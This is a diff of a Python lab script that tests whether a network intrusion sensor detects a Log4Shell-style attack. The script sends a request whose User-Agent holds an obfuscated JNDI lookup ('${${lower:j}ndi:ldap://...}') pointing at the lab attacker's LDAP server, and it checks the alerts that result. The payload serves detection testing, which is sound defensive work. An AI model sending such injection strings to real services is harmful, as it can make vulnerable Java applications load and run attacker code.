@@ -11,16 +11,17 @@ import sys
 import lab
 
 LOAD_MB = 20
+ENTRY = "ldap://%s:1389/cn=remote,dc=lab" % lab.ATTACKER
 SETTINGS = "workers: 2\naf-packet: [{interface: e0, buffer-size: 64mb}]"
 
 
 def attack(sensor, device, capture):
     before = len(sensor.settled())
     load = lab.Load(capture, device)
-    lab.request("Mozilla/5.0 ${${lower:j}ndi:ldap://%s:1389/cn=remote,dc=lab}" % lab.ATTACKER)
+    lab.request("Mozilla/5.0 ${${lower:j}ndi:%s}" % ENTRY)
     said = load.stop()
     found = sensor.settled()[before:]
-    lab.once(found, *lab.chain())
+    lab.once(found, lab.lookup_of(ENTRY, techniques={"has": ["lower"]}), lab.searched("cn=remote,dc=lab"), lab.reference(), lab.FETCHED)
     addresses = {(facts["source"]["ip"], facts["target"]["ip"]) for facts in (alert["alert"] for alert in found)}
     assert addresses == {(lab.ATTACKER, lab.VICTIM)}, "others than attacker and victim: %s" % addresses
     print("through %s: %d alerts amid %s" % (device, len(found), said))
@@ -30,15 +31,10 @@ def main():
     program, classes, traffic = sys.argv[1:4]
     lab.enter("curl", "slapd", "slapadd", "openssl")
     lab.need_java()
-    classes = lab.java_classes(classes)
     capture = lab.WORK / "load.pcap"
     subprocess.run([traffic, str(LOAD_MB), "1", capture], check=True, stdout=subprocess.DEVNULL)
     lab.build_network()
-    victim = lab.Program("vic", classes, "Victim", "8080")
-    lab.start_directory()
-    lab.start_web(classes)
-    victim.wait_ready()
-    lab.until("the servers", lambda: lab.listening("atk", 1389, 8000))
+    lab.Peers(classes)
 
     sensor = lab.Sensor(program, SETTINGS)
     attack(sensor, "sen", capture)
